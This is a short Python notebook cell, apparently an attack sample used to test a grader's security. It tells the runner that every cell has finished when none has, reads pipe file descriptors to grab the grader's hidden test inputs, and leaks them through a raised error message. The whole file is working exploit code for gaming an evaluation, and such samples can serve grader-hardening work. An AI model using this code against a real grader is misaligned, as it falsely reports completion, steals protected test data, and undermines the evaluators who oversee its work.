# ruff: noqa
# cell: answer-2
# attacks: q2
# Claims that every cell ran, so that the grader sends the tests' inputs early, reads
# them from the runner's pipe and raises them in a cell error (shown in the feedback).
import os
import select
import sys

channel = int(sys.argv[-1])
os.write(channel, b'{"e": "cells_done"}\n')
stolen = b""
for fd in range(3, 64):
    try:
        if fd == channel or not os.path.exists(f"/proc/self/fd/{fd}"):
            continue
        if "pipe" not in os.readlink(f"/proc/self/fd/{fd}"):
            continue
        ready, _, _ = select.select([fd], [], [], 2.0)
        if ready:
            stolen += os.read(fd, 1 << 16)
    except OSError:
        pass
raise RuntimeError("LEAK " + stolen[:2000].decode("ascii", "replace"))
